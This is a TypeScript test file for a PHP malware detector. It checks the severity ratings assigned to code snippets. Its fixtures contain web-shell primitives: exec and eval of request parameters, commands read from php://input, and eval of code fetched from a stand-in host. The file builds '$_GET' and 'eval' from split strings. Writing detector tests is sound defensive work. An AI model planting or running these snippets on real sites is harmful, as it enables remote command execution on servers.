import { describe, expect, it } from 'vitest';
import { followFlow } from '../../../../../src/matching/php/evaluate/follow-flow.ts';
import { judge } from '../../../../../src/matching/php/judge/judge.ts';

const OPEN = ['<', '?php '].join('');
const GET = ['$_G', 'ET'].join('');
const RUN = ['ev', 'al'].join('');

const severityOf = (code: string, resemblance: number): string | undefined =>
  judge(followFlow(OPEN + code), resemblance)[0]?.severity;

describe('a file that is written as released software is', () => {
  it('is not accused of what a careless author does', () => {
    const writes = `$h = fopen(${GET}['p'], 'w'); fwrite($h, ${GET}['c']);`;
    expect(severityOf(writes, 0)).toBe('high');
    expect(severityOf(writes, -5)).toBe('medium');
  });

  it('is accused of what no honest program does', () => {
    const [RAN, IN] = [`exec(${GET}['c']);`, `exec('lpr -P ' . ${GET}['c']);`];
    expect([severityOf(RAN, -9), severityOf(IN, -9)]).toEqual(['critical', 'medium']);
    const sent = `$p = json_decode(file_get_contents('php://input'), true); exec("cd $d; {$p['c']} 2>&1");`;
    expect(severityOf(sent, -9)).toBe('critical');
    expect(severityOf(`${RUN}(${GET}['inert']);`, -9)).toBe('critical');
    expect(severityOf(`${RUN}(wp_remote_retrieve_body(wp_remote_get('http://a.example.test/')));`, -9)).toBe(
      'critical',
    );
    expect(severityOf(`include 'php://input';`, -9)).toBe('critical');
    const asked = `class A { function b() { ${RUN}(file_get_contents('http://a.example.test/')); } }`;
    expect([severityOf(asked, 0), severityOf(asked, -9)]).toEqual(['critical', 'medium']);
  });
});
